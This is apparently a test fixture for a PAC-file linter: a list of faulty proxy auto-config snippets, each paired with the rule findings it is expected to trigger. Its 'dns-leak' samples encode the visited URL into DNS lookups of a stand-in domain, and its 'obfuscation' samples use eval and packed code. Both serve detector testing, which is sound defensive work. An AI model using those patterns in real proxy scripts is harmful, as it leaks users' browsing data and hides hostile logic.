/** A script with mistakes: what it shows, its text, and every finding as `LINE RULE`, in order. */
export type BadScript = readonly [what: string, text: string, findings: readonly string[]]

/** A whole PAC around some statements, which begin on line 2. */
export function pac(...statements: string[]): string {
  return `function FindProxyForURL(url, host) {\n${statements.join('\n')}\n}\n`
}

const proxy = 'return "PROXY proxy.example.com:3128";'

export const badScripts: readonly BadScript[] = [
  // what cannot be read
  ['an open bracket', 'function FindProxyForURL(url, host) {\n  return "DIRECT";\n', ['3 syntax']],
  ['an open text', pac('return "DIRECT;'), ['2 syntax']],
  ['curly quotes', pac('return \u201cDIRECT\u201d;'), ['2 non-ascii', '2 syntax']],
  ['words for operators', pac('if (isPlainHostName(host) or host == "a.example") return "DIRECT";', proxy), ['2 syntax']],
  ['HTML around it', '<script>\nfunction FindProxyForURL(url, host) { return "DIRECT"; }\n</script>', ['1 syntax']],
  ['a missing bracket in a condition', pac('if (isPlainHostName(host) return "DIRECT";', proxy), ['2 syntax']],
  // the language
  ['let', pac('let a = 1;', 'if (a) return "DIRECT";', proxy), ['2 modern-syntax']],
  ['const', pac('const p = "PROXY proxy.example.com:3128";', 'return p;'), ['2 modern-syntax']],
  ['an arrow function', `var pick = (host) => "DIRECT";\n${pac('return pick(host);')}`, ['1 modern-syntax']],
  ['a template', pac('return `PROXY proxy.example.com:3128`;'), ['2 modern-syntax']],
  [
    'for of',
    pac('var list = [".a.example"];', 'for (var d of list) if (dnsDomainIs(host, d)) return "DIRECT";', proxy),
    ['3 modern-syntax'],
  ],
  ['a class', `class Rule {}\n${pac(proxy)}`, ['1 modern-syntax']],
  ['a default parameter', `function pick(host, p = "DIRECT") { return p; }\n${pac('return pick(host);')}`, ['1 modern-syntax']],
  ['?. and ??', pac('var a = host?.length ?? 0;', 'if (a > 3) return "DIRECT";', proxy), ['2 modern-syntax', '2 modern-syntax']],
  [
    'a comma after the last property',
    `var hosts = {\n  "a.example": 1,\n};\n${pac('if (hosts[host]) return "DIRECT";', proxy)}`,
    ['2 trailing-comma'],
  ],
  [
    'a comma after the last element',
    `var hosts = ["a.example",\n  "b.example", ];\n${pac('for (var i = 0; i < hosts.length; i++) if (host == hosts[i]) return "DIRECT";', proxy)}`,
    ['2 trailing-comma'],
  ],
  ['a comma after the last argument', pac('if (dnsDomainIs(host, ".a.example",)) return "DIRECT";', proxy), ['2 trailing-comma']],
  [
    'methods of newer engines',
    pac('if (host.endsWith(".example.com")) return "DIRECT";', 'if (url.startsWith("ftp:")) return "DIRECT";', proxy),
    ['2 modern-method', '3 modern-method'],
  ],
  ['forEach', `var seen = 0;\n${pac('["a"].forEach(function (a) { alert(a); });', proxy)}`, ['3 modern-method', '3 alert']],
  ['a hashbang', `#!/usr/bin/pac\n${pac(proxy)}`, ['1 modern-syntax']],
  // the function that clients call
  ['no FindProxyForURL', 'function findProxy(url, host) {\n  return "DIRECT";\n}', ['1 entry-point']],
  ['another case', 'var a = 1;\nfunction FindProxyForUrl(url, host) {\n  return "DIRECT";\n}', ['2 entry-point']],
  ['FindProxyForURLEx alone', 'function FindProxyForURLEx(url, host) {\n  return "DIRECT";\n}', ['1 entry-point']],
  ['both, and apart', `function FindProxyForURLEx(url, host) {\n  return "DIRECT";\n}\n${pac(proxy)}`, ['1 extended-entry']],
  [
    'parameters the wrong way round',
    'function FindProxyForURL(host, url) {\n  if (isPlainHostName(host)) return "DIRECT";\n  return "PROXY proxy.example.com:3128";\n}',
    ['1 entry-point', '2 argument-kind'],
  ],
  [
    'const FindProxyForURL',
    'const FindProxyForURL = function (url, host) {\n  return "DIRECT";\n};',
    ['1 modern-syntax', '1 entry-point'],
  ],
  ['async', 'async function FindProxyForURL(url, host) {\n  return "DIRECT";\n}', ['1 modern-syntax', '1 entry-point']],
  ['twice', `${pac('return "DIRECT";')}${pac(proxy)}`, ['4 duplicate-function']],
  [
    'isInNetEx unasked',
    pac('if (host == "a.example" && isInNetEx(host, "2001:db8::/32")) return "DIRECT";', proxy),
    ['2 extended-function'],
  ],
  // names
  ['a misspelt function', pac('if (isPlainHostname(host)) return "DIRECT";', proxy), ['2 undeclared']],
  ['an answer without quotes', pac('return DIRECT;'), ['2 undeclared']],
  ['a browser is not there', pac('if (window.location) return "DIRECT";', proxy), ['2 undeclared']],
  [
    'a PAC function made another',
    `function isPlainHostName(host) {\n  return true;\n}\n${pac('if (isPlainHostName(host)) return "DIRECT";', proxy)}`,
    ['1 redefined-builtin'],
  ],
  [
    'the table of months',
    `var months = ["January"];\n${pac('if (dateRange("JAN")) return months[0] ? "DIRECT" : "DIRECT";', proxy)}`,
    ['1 redefined-builtin'],
  ],
  // the way through
  ['no return at the end', pac('if (isPlainHostName(host)) return "DIRECT";'), ['1 missing-return']],
  [
    'no return in a branch',
    pac('if (isPlainHostName(host)) { return "DIRECT"; }', 'else if (dnsDomainIs(host, ".a.example")) { return "DIRECT"; }'),
    ['1 missing-return'],
  ],
  ['a switch without default', pac('switch (host) {', 'case "a.example": return "DIRECT";', '}'), ['1 missing-return']],
  ['return forgotten', pac('if (isPlainHostName(host)) "DIRECT";', proxy), ['2 missing-return']],
  ['after a return', pac(proxy, 'if (isPlainHostName(host)) return "DIRECT";'), ['3 unreachable']],
  [
    'after if and else',
    pac('if (isPlainHostName(host)) return "DIRECT"; else return "PROXY proxy.example.com:3128";', 'return "DIRECT";'),
    ['3 unreachable'],
  ],
  ['a number', pac('return 0;'), ['2 not-a-string']],
  ['null', pac('if (isPlainHostName(host)) return null;', proxy), ['2 not-a-string']],
  ['nothing', pac('if (isPlainHostName(host)) return;', proxy), ['2 not-a-string']],
  ['a list', pac('return ["PROXY proxy.example.com:3128", "DIRECT"];'), ['2 not-a-string']],
  // conditions
  ['= for ==', pac('if (host = "intranet.example.com") return "DIRECT";', proxy), ['2 constant-condition']],
  ['|| between texts', pac('if (host == "a.example" || "b.example") return "DIRECT";', proxy), ['2 constant-condition']],
  [
    '|| in an argument',
    pac('if (dnsDomainIs(host, ".a.example" || ".b.example")) return "DIRECT";', proxy),
    ['2 constant-condition'],
  ],
  ['a function that is not called', pac('if (isPlainHostName) return "DIRECT";', proxy), ['2 constant-condition']],
  ['a semicolon after if', pac('if (isPlainHostName(host));', 'return "DIRECT";'), ['2 constant-condition']],
  ['indexOf as a truth', pac('if (host.indexOf("intranet")) return "DIRECT";', proxy), ['2 constant-condition']],
  // answers
  ['HTTP for PROXY', pac('return "HTTP proxy.example.com:3128";'), ['2 proxy-word']],
  ['HTTPS', pac('return "HTTPS proxy.example.com:443; DIRECT";'), ['2 proxy-word']],
  ['SOCKS5', pac('return "SOCKS5 proxy.example.com:1080; PROXY proxy.example.com:3128";'), ['2 proxy-word']],
  ['QUIC', pac('return "QUIC proxy.example.com:443; DIRECT";'), ['2 proxy-word']],
  ['a word that nobody knows', pac('return "PROXIE proxy.example.com:3128";'), ['2 proxy-word']],
  ['no word', pac('return "proxy.example.com:3128";'), ['2 proxy-word']],
  ['a URL for a proxy', pac('return "PROXY http://proxy.example.com:3128";'), ['2 proxy-syntax']],
  ['commas between entries', pac('return "PROXY a.example.com:3128, DIRECT";'), ['2 proxy-syntax']],
  ['an empty answer', pac('if (isPlainHostName(host)) return "";', proxy), ['2 proxy-syntax']],
  ['no host', pac('return "PROXY ; DIRECT";'), ['2 proxy-syntax']],
  ['no port', pac('return "PROXY proxy.example.com; DIRECT";'), ['2 proxy-port']],
  ['no port, in a variable', `var p = "PROXY proxy.example.com";\n${pac('return p;')}`, ['1 proxy-port']],
  ['a port that is none', pac('return "PROXY proxy.example.com:99999";'), ['2 proxy-port']],
  ['a password', pac('return "PROXY user:secret@proxy.example.com:3128";'), ['2 credentials']],
  ['a password in a comment', `// password: hunter2\n${pac(proxy)}`, ['1 credentials']],
  // DNS
  [
    'DNS before a name',
    pac(
      'if (isInNet(host, "10.0.0.0", "255.0.0.0")) return "DIRECT";',
      'if (dnsDomainIs(host, ".example.com")) return "DIRECT";',
      proxy,
    ),
    ['2 dns-first'],
  ],
  [
    'DNS before a name in one condition',
    pac('if (isResolvable(host) && dnsDomainIs(host, ".example.com")) return "DIRECT";', proxy),
    ['2 dns-first'],
  ],
  [
    'DNS at the top',
    pac(
      'var ip = dnsResolve(host);',
      'if (isPlainHostName(host)) return "DIRECT";',
      'if (isInNet(ip, "10.0.0.0", "255.0.0.0")) return "DIRECT";',
      proxy,
    ),
    ['2 dns-first'],
  ],
  ['DNS for all', pac('if (isInNet(host, "10.0.0.0", "255.0.0.0")) return "DIRECT";', proxy), ['2 dns-every-url']],
  [
    'isResolvable for all',
    pac('if (isResolvable(host)) return "DIRECT";', 'else return "PROXY proxy.example.com:3128";'),
    ['2 dns-every-url'],
  ],
  [
    'DNS for all that is not plain',
    pac(
      'if (isPlainHostName(host)) return "DIRECT";',
      'if (isInNet(dnsResolve(host), "10.0.0.0", "255.0.0.0")) return "DIRECT";',
      proxy,
    ),
    ['3 dns-every-url'],
  ],
  [
    'isResolvable at the end',
    pac('if (isPlainHostName(host) || dnsDomainIs(host, ".example.com") || isResolvable(host)) return "DIRECT";', proxy),
    ['2 dns-every-url'],
  ],
  [
    'the URL in a DNS name',
    pac('if (isPlainHostName(host)) return "DIRECT";', 'dnsResolve(encodeURIComponent(url) + ".log.example");', proxy),
    ['3 dns-leak'],
  ],
  [
    'the host in a DNS name',
    pac('var seen = host + ".seen.example";', 'if (host == "a.example") isResolvable(seen);', proxy),
    ['3 dns-leak'],
  ],
  ['the own address', pac('if (isInNet(myIpAddress(), "10.1.0.0", "255.255.0.0")) return "DIRECT";', proxy), ['2 my-ip-address']],
  // patterns
  [
    'a regular expression as a pattern',
    pac('if (shExpMatch(host, ".*\\\\.example\\\\.com$")) return "DIRECT";', proxy),
    ['2 glob-regexp'],
  ],
  ['| in a pattern', pac('if (shExpMatch(host, "(*.a.example|*.b.example)")) return "DIRECT";', proxy), ['2 glob-regexp']],
  ['a dot escaped', pac('if (shExpMatch(host, "*\\\\.example.com")) return "DIRECT";', proxy), ['2 glob-regexp']],
  ['no dot after the star', pac('if (shExpMatch(host, "*example.com")) return "DIRECT";', proxy), ['2 glob-wide']],
  ['anywhere in the URL', pac('if (shExpMatch(url, "*example.com*")) return "DIRECT";', proxy), ['2 glob-wide']],
  ['a URL for a host', pac('if (shExpMatch(host, "http://*.example.com/*")) return "DIRECT";', proxy), ['2 glob-never']],
  ['a dot without a star', pac('if (shExpMatch(host, ".example.com")) return "DIRECT";', proxy), ['2 glob-never']],
  ['a part of an address', pac('if (shExpMatch(host, "192.168.")) return "DIRECT";', proxy), ['2 glob-never']],
  ['a host for a URL', pac('if (shExpMatch(url, "*.example.com")) return "DIRECT";', proxy), ['2 glob-never']],
  ['upper case', pac('if (shExpMatch(host, "*.Example.com")) return "DIRECT";', proxy), ['2 glob-never']],
  ['a domain without a star', pac('if (shExpMatch(host, "example.com")) return "DIRECT";', proxy), ['2 glob-exact']],
  ['a path of https', pac('if (shExpMatch(url, "https://www.example.com/private/*")) return "DIRECT";', proxy), ['2 https-path']],
  ['a file of any scheme', pac('if (shExpMatch(url, "*.zip")) return "DIRECT";', proxy), ['2 https-path']],
  ['a path of http', pac('if (shExpMatch(url, "http://www.example.com/private/*")) return "DIRECT";', proxy), ['2 https-path']],
  ['any character for a dot', pac('if (/^www.example.com$/.test(host)) return "DIRECT";', proxy), ['2 regexp-dot']],
  ['a star for ==', pac('if (host == "*.example.com") return "DIRECT";', proxy), ['2 plain-comparison']],
  ['a port in a host', pac('if (host == "www.example.com:8080") return "DIRECT";', proxy), ['2 plain-comparison']],
  // hosts
  ['dnsDomainIs without a dot', pac('if (dnsDomainIs(host, "example.com")) return "DIRECT";', proxy), ['2 dns-domain-dot']],
  [
    'dnsDomainIs without a dot, in a list',
    `var list = [\n  ".a.example",\n  "corp.example"\n];\n${pac('for (var i = 0; i < list.length; i++) if (dnsDomainIs(host, list[i])) return "DIRECT";', proxy)}`,
    ['3 dns-domain-dot'],
  ],
  [
    'localHostOrDomainIs of a domain',
    pac('if (localHostOrDomainIs(host, "example.com")) return "DIRECT";', proxy),
    ['2 local-host-or-domain'],
  ],
  [
    'localHostOrDomainIs with a dot',
    pac('if (localHostOrDomainIs(host, ".example.com")) return "DIRECT";', proxy),
    ['2 local-host-or-domain'],
  ],
  // arguments
  [
    'CIDR in isInNet',
    pac('if (host == "a.example" && isInNet(host, "10.0.0.0/8")) return "DIRECT";', proxy),
    ['2 argument-kind'],
  ],
  [
    'bits for a mask',
    pac('if (host == "a.example" && isInNet(host, "10.0.0.0", "8")) return "DIRECT";', proxy),
    ['2 argument-kind'],
  ],
  [
    'mask and network',
    pac('if (host == "a.example" && isInNet(host, "255.255.255.0", "192.0.2.0")) return "DIRECT";', proxy),
    ['2 argument-kind'],
  ],
  [
    'a wildcard mask',
    pac('if (host == "a.example" && isInNet(host, "192.0.2.0", "0.0.0.255")) return "DIRECT";', proxy),
    ['2 argument-kind'],
  ],
  ['no mask', pac('if (host == "a.example" && isInNet(host, "192.0.2.0")) return "DIRECT";', proxy), ['2 argument-count']],
  ['a pattern for a domain', pac('if (dnsDomainIs(host, "*.example.com")) return "DIRECT";', proxy), ['2 argument-kind']],
  ['the URL for the host', pac('if (dnsDomainIs(url, ".example.com")) return "DIRECT";', proxy), ['2 argument-kind']],
  ['the pattern first', pac('if (shExpMatch("*.example.com", host)) return "DIRECT";', proxy), ['2 argument-kind']],
  ['a regular expression', pac('if (shExpMatch(host, /example/)) return "DIRECT";', proxy), ['2 argument-kind']],
  ['no argument', pac('if (isPlainHostName()) return "DIRECT";', proxy), ['2 argument-count']],
  // dates
  ['a day in full', pac('if (weekdayRange("Monday", "Friday")) return "DIRECT";', proxy), ['2 range-value']],
  ['a number of a day', pac('if (weekdayRange(1, 5)) return "DIRECT";', proxy), ['2 range-value']],
  ['an hour that is none', pac('if (timeRange(8, 25)) return "DIRECT";', proxy), ['2 range-value']],
  ['three numbers of a time', pac('if (timeRange(8, 0, 17)) return "DIRECT";', proxy), ['2 range-value']],
  ['one day of a month', pac('if (dateRange(24, "DEC")) return "DIRECT";', proxy), ['2 range-value']],
  ['a month in full', pac('if (dateRange("January")) return "DIRECT";', proxy), ['2 range-value']],
  ['hours past midnight', pac('if (timeRange(22, 6)) return "DIRECT";', proxy), ['2 range-wrap']],
  ['minutes past midnight', pac('if (timeRange(22, 0, 6, 0)) return "DIRECT";', proxy), ['2 range-wrap']],
  ['days past Saturday', pac('if (weekdayRange("FRI", "MON")) return "DIRECT";', proxy), ['2 range-wrap']],
  // twice
  [
    'the same condition',
    pac(
      'if (dnsDomainIs(host, ".a.example")) return "DIRECT";',
      'if (isPlainHostName(host)) return "DIRECT";',
      'if (dnsDomainIs(host, ".a.example")) return "PROXY proxy.example.com:3128";',
      proxy,
    ),
    ['4 duplicate'],
  ],
  [
    'the same in one condition',
    pac('if (host == "a.example" ||', '  host == "b.example" ||', '  host == "a.example") return "DIRECT";', proxy),
    ['4 duplicate'],
  ],
  [
    'the same key',
    `var hosts = {\n  "a.example": 1,\n  "a.example": 2\n};\n${pac('if (hosts[host]) return "DIRECT";', proxy)}`,
    ['3 duplicate'],
  ],
  [
    'a host under a domain',
    pac(
      'if (dnsDomainIs(host, ".example.com")) return "DIRECT";',
      'if (shExpMatch(host, "*.www.example.com")) return "PROXY proxy.example.com:3128";',
      proxy,
    ),
    ['3 shadowed'],
  ],
  [
    'a host that a pattern fits',
    pac(
      'if (shExpMatch(host, "*.example.com")) return "DIRECT";',
      'else if (host == "www.example.com") return "PROXY proxy.example.com:3128";',
      'else return "PROXY proxy.example.com:3128";',
    ),
    ['3 shadowed'],
  ],
  [
    'a network in a network',
    pac(
      'if (host == "a.example") {',
      '  if (isInNet(host, "10.0.0.0", "255.0.0.0")) return "DIRECT";',
      '  if (isInNet(host, "10.1.0.0", "255.255.0.0")) return "PROXY a.example.com:3128";',
      '}',
      proxy,
    ),
    ['4 shadowed'],
  ],
  // the rest
  [
    'a counter',
    `var turn = 0;\n${pac('turn++;', 'return turn % 2 ? "PROXY a.example.com:3128" : "PROXY b.example.com:3128";')}`,
    ['3 global-state'],
  ],
  ['no var', pac('ip = host;', 'if (ip == "a.example") return "DIRECT";', proxy), ['2 global-state']],
  [
    'a regular expression that remembers',
    `var inside = /\\.example\\.com$/g;\n${pac('if (inside.test(host)) return "DIRECT";', proxy)}`,
    ['3 global-state'],
  ],
  ['eval', pac('eval("var a = 1");', proxy), ['2 obfuscation']],
  ['Function', pac('return new Function("return \'DIRECT\'")();'), ['2 obfuscation']],
  [
    'letters as numbers',
    pac('var a = "\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f";', 'if (url.substring(0, 7) == a) return "DIRECT";', proxy),
    ['2 obfuscation'],
  ],
  [
    'encoded text',
    pac(`var a = "${'QmFzZTY0IHRleHQgb2Yg'.repeat(15)}";`, 'if (a.length == host.length) return "DIRECT";', proxy),
    ['2 obfuscation'],
  ],
  ['alert', pac('alert(host);', proxy), ['2 alert']],
  ['a byte order mark', `\ufeff${pac(proxy)}`, ['1 bom']],
  ['Cyrillic in a comment', `// \u043f\u0440\u043e\u043a\u0441\u0438\n${pac(proxy)}`, ['1 non-ascii']],
  ['an umlaut in a host', pac('if (host == "b\u00fccher.example") return "DIRECT";', proxy), ['2 non-ascii']],
  // comments that silence
  ['one that silences nothing', `// wpadd-lint-disable alert\n${pac(proxy)}`, ['1 unused-silence']],
  ['one that names no rule', `// wpadd-lint-disable-next-line alarm\n${pac(proxy)}`, ['1 unknown-silence']],
  // found by looking at what else people write
  [
    'DNS in a function of the script',
    `function inside(name) {\n  return isInNet(name, "10.0.0.0", "255.0.0.0");\n}\n${pac('if (inside(host)) return "DIRECT";', proxy)}`,
    ['5 dns-every-url'],
  ],
  ['CIDR asks nobody', pac('if (isInNet(host, "10.0.0.0/8")) return "DIRECT";', proxy), ['2 argument-kind']],
  ['the network first', pac('if (isInNet("10.0.0.0", host, "255.0.0.0")) return "DIRECT";', proxy), ['2 argument-kind']],
  ['a path of any scheme', pac('if (shExpMatch(url, "*.example.com/private/*")) return "DIRECT";', proxy), ['2 https-path']],
  ['a path alone', pac('if (shExpMatch(url, "*/private/*")) return "DIRECT";', proxy), ['2 https-path']],
  [
    'a path in a regular expression',
    pac('if (/^https:\\/\\/www\\.example\\.com\\/private/.test(url)) return "DIRECT";', proxy),
    ['2 https-path'],
  ],
  ['a piece that is too short', pac('if (url.substring(0, 5) == "https:") return "DIRECT";', proxy), ['2 plain-comparison']],
  ['a piece of a URL that is too long', pac('if ("http:" == url.substr(0, 6)) return "DIRECT";', proxy), ['2 plain-comparison']],
  ['a URL without its slash', pac('if (url == "http://www.example.com") return "DIRECT";', proxy), ['2 plain-comparison']],
  ['the same proxy twice', pac('return "PROXY a.example.com:3128; PROXY a.example.com:3128";'), ['2 proxy-syntax']],
  ['a boolean', pac('return isPlainHostName(host);'), ['2 not-a-string']],
  [
    'the URL in a DNS name, letter by letter',
    pac(
      'var text = "";',
      'for (var i = 0; i < url.length; i++) text += url.charCodeAt(i).toString(16);',
      'isResolvable(text + ".log.example");',
      proxy,
    ),
    ['4 dns-leak'],
  ],
  [
    'behind everything',
    pac(
      'if (shExpMatch(host, "*")) return "DIRECT";',
      'if (host == "www.example.com") return "PROXY a.example.com:3128";',
      proxy,
    ),
    ['3 shadowed'],
  ],
  ['a list that grows', `var seen = [];\n${pac('seen.push(host);', proxy)}`, ['3 global-state']],
  ['a table that counts', `var count = {};\n${pac('count[host] = count[host] + 1;', proxy)}`, ['3 global-state']],
  ['weeks past the year', pac('if (dateRange(20, "DEC", 6, "JAN")) return "DIRECT";', proxy), ['2 range-wrap']],
  ['a name of numbers', pac('return String.fromCharCode(68, 73, 82, 69, 67, 84);'), ['2 obfuscation']],
  // answers on their way through functions and variables
  [
    'a function of the script that ends without an answer',
    `function choose(host) {\n  if (isPlainHostName(host)) return "DIRECT";\n}\n${pac('return choose(host);')}`,
    ['1 missing-return'],
  ],
  [
    'a function of the script that gives null',
    `function choose(host) {\n  if (isPlainHostName(host)) return null;\n  ${proxy}\n}\n${pac('return choose(host);')}`,
    ['2 not-a-string'],
  ],
  [
    'a function of the script that gives a word that nobody knows',
    `function choose(host) {\n  return isPlainHostName(host) ? "DIRECTT" : "PROXY proxy.example.com:3128";\n}\n${pac('return choose(host);')}`,
    ['2 proxy-word'],
  ],
  [
    'a word that nobody knows, in a variable',
    pac('var answer = "PROXY proxy.example.com:3128";', 'if (isPlainHostName(host)) answer = "DIRCT";', 'return answer;'),
    ['3 proxy-word'],
  ],
  [
    'a variable without a value',
    pac('var answer;', 'if (isPlainHostName(host)) answer = "DIRECT";', 'return answer;'),
    ['4 missing-return'],
  ],
  ['a line that ends behind return', pac('return', '"PROXY proxy.example.com:3128";'), ['2 not-a-string', '3 missing-return']],
  ['a blank before the first entry', pac('return " PROXY proxy.example.com:3128";'), ['2 proxy-syntax']],
  ['two ports', pac('return "PROXY proxy.example.com:3128:8080";'), ['2 proxy-syntax']],
  [
    'a password in pieces',
    pac('var a = "user", b = "hunter2";', 'return "PROXY " + a + ":" + b + "@proxy.example.com:3128";'),
    ['3 credentials'],
  ],
  ['a password under its name', `var proxyPassword = "hunter2";\n${pac(proxy)}`, ['1 credentials']],
  ['a password under a short name', `// user: corp, pwd=hunter2\n${pac(proxy)}`, ['1 credentials']],
  ['a basic sign-in', pac('// Proxy-Authorization: Basic dXNlcjpodW50ZXIy', proxy), ['2 credentials']],
  // arguments that are other ones
  [
    'a function that is not called, as an argument',
    pac('if (isInNet(myIpAddress, "10.0.0.0", "255.0.0.0")) return "DIRECT";', proxy),
    ['2 argument-kind'],
  ],
  ['the word host', pac('if (isPlainHostName("host")) return "DIRECT";', proxy), ['2 argument-kind']],
  ['the word url', pac('if (shExpMatch("url", "ftp:*")) return "DIRECT";', proxy), ['2 argument-kind']],
  [
    'a list for a domain',
    pac('if (dnsDomainIs(host, [".a.example", ".b.example"])) return "DIRECT";', proxy),
    ['2 argument-kind'],
  ],
  ['a month as a number', pac('if (dateRange(1, 6, 2026, 15, 8, 2026)) return "DIRECT";', proxy), ['2 range-value']],
  // what hides
  ['fromCharCode with apply', pac('return String.fromCharCode.apply(null, [68, 73, 82, 69, 67, 84]);'), ['2 obfuscation']],
  ['the constructor of functions', pac('return "".constructor.constructor("return \'DIRECT\'")();'), ['2 obfuscation']],
  ['a text backwards', pac('return "TCERID".split("").reverse().join("");'), ['2 obfuscation']],
  [
    'brackets',
    `var a = (![]+[])[+!+[]];\n${pac('return a == "x" ? "DIRECT" : "PROXY proxy.example.com:3128";')}`,
    ['1 obfuscation'],
  ],
  ['eval under another name', pac('this["ev" + "al"]("1");', proxy), ['2 obfuscation']],
  ['letters in per cent', pac('return decodeURIComponent("%44%49%52%45%43%54");'), ['2 obfuscation']],
  [
    'a packed script',
    'eval(function (p, k) { while (k.length) p = p.replace("0", k.pop()); return p; }("0", ["function FindProxyForURL() {}"]))',
    ['1 obfuscation'],
  ],
  // what is sent out
  [
    'the URL in a DNS name, through a function',
    `function tell(data) {\n  return isResolvable(data + ".log.example");\n}\n${pac('if (host == "a.example") tell(url);', proxy)}`,
    ['2 dns-leak'],
  ],
  [
    'the URL in a DNS name, out of a list',
    pac(
      'var parts = [];',
      'for (var i = 0; i < url.length; i++) parts.push(url.charCodeAt(i).toString(16));',
      'if (host == "a.example") dnsResolve(parts.join("") + ".log.example");',
      proxy,
    ),
    ['4 dns-leak'],
  ],
  [
    'the URL in a DNS name that a function makes',
    `function name(text) {\n  return text.replace(/[^a-z]/g, "") + ".log.example";\n}\n${pac('if (host == "a.example") dnsResolve(name(url));', proxy)}`,
    ['5 dns-leak'],
  ],
  // dots and stars
  ['a regular expression in a text', pac('if (host.match("^www.example.com$")) return "DIRECT";', proxy), ['2 regexp-dot']],
  ['a network without its backslash', pac('if (/^10./.test(host)) return "DIRECT";', proxy), ['2 regexp-dot']],
  ['a domain without its backslash', pac('if (/.example\\.com$/.test(host)) return "DIRECT";', proxy), ['2 regexp-dot']],
  ['the beginning or any character', pac('if (/(^|.)example\\.com$/.test(host)) return "DIRECT";', proxy), ['2 regexp-dot']],
  ['a star behind the domain', pac('if (shExpMatch(host, "*.example.com*")) return "DIRECT";', proxy), ['2 glob-wide']],
  [
    'a star behind the host of a URL',
    pac('if (shExpMatch(url, "http://www.example.com*")) return "DIRECT";', proxy),
    ['2 glob-wide'],
  ],
  ['a question mark for a dot', pac('if (shExpMatch(host, "*?example?com")) return "DIRECT";', proxy), ['2 glob-wide']],
  ['patterns with commas', pac('if (shExpMatch(host, "*.a.example,*.b.example")) return "DIRECT";', proxy), ['2 glob-never']],
  [
    'a path of https, in a piece of the URL',
    pac('if (url.substring(0, 31) == "https://www.example.com/private") return "DIRECT";', proxy),
    ['2 https-path'],
  ],
  [
    'the URL of web pages',
    pac('var parts = new URL(url);', 'if (parts.port == "8080") return "DIRECT";', proxy),
    ['2 undeclared'],
  ],
  [
    'DNS before a name, in cases',
    pac(
      'switch (true) {',
      'case isInNet(host, "10.0.0.0", "255.0.0.0"): return "DIRECT";',
      'case isPlainHostName(host): return "DIRECT";',
      `default: ${proxy}`,
      '}',
    ),
    ['3 dns-first'],
  ],
  [
    'the same condition, in cases',
    pac(
      'switch (true) {',
      'case dnsDomainIs(host, ".example.com"): return "DIRECT";',
      'case dnsDomainIs(host, ".www.example.com"): return "PROXY www.example.com:3128";',
      'case dnsDomainIs(host, ".example.com"): return "PROXY a.example.com:3128";',
      `default: ${proxy}`,
      '}',
    ),
    ['4 shadowed', '5 duplicate'],
  ],
  [
    'the last of a list',
    pac('var list = ["a"];', 'if (list.lastIndexOf(host) >= 0) return "DIRECT";', proxy),
    ['3 modern-method'],
  ],
  [
    'a password in a comment in Russian',
    `// \u043f\u0430\u0440\u043e\u043b\u044c: hunter2\n${pac(proxy)}`,
    ['1 credentials', '1 non-ascii'],
  ],
  [
    'a list of networks with prefix lengths',
    `var nets = ["10.0.0.0/8",\n  "192.0.2.0/24"];\n${pac('for (var i = 0; i < 2; i++) if (host == "a.example" && isInNet(host, nets[i])) return "DIRECT";', proxy)}`,
    ['1 argument-kind', '2 argument-kind'],
  ],
  ['false, or a text', pac('return isPlainHostName(host) && "DIRECT";'), ['2 not-a-string']],
  [
    'parameters taken apart',
    `function pick({ name, rest = 1 }) {\n  return name && rest;\n}\n${pac('return pick({ name: host }) ? "DIRECT" : "DIRECT";')}`,
    ['1 modern-syntax'],
  ],
]
